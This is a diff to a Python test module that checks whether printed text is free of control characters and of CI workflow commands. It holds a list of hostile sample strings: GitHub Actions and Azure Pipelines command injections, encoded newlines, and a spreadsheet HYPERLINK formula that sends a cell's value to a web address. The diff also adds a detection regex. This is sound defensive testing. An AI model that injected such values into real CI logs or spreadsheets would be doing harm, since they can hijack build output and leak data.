@@ -35,7 +35,7 @@ HOSTILE: dict[str, str] = {
     "command": "::error file=app.py,line=1::owned",
     "later command": "fine\n  ::set-output name=x::y\r\n::add-mask::e",
     "stopped commands": "::stop-commands::token",
-    "old command": "##[error]owned ##[group]hidden",
+    "old command": "##[error]x ##[group]x ##vso[x]",
     "command data": "a%0A::error::b%0D%25,title=x:y",
     # a spreadsheet runs it
     "formula": '=HYPERLINK("http://example.com/?"&A1,"see")',
@@ -80,11 +80,13 @@ HOSTILE: dict[str, str] = {
 
 _CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u2028-\u202e\u2066-\u2069\ud800-\udfff]")
 
+_AGENT_COMMAND = re.compile(r"##\w*\[")
+
 
 def harmless(*texts: str) -> None:
     """Fail where a text that is printed holds a control character or a line that a CI system obeys."""
     for text in texts:
         assert not _CONTROL.search(text), _CONTROL.search(text)
-        assert "##[" not in text
+        assert not _AGENT_COMMAND.search(text), _AGENT_COMMAND.search(text)
         for line in text.split("\n"):
             assert not line.lstrip().startswith("::"), line
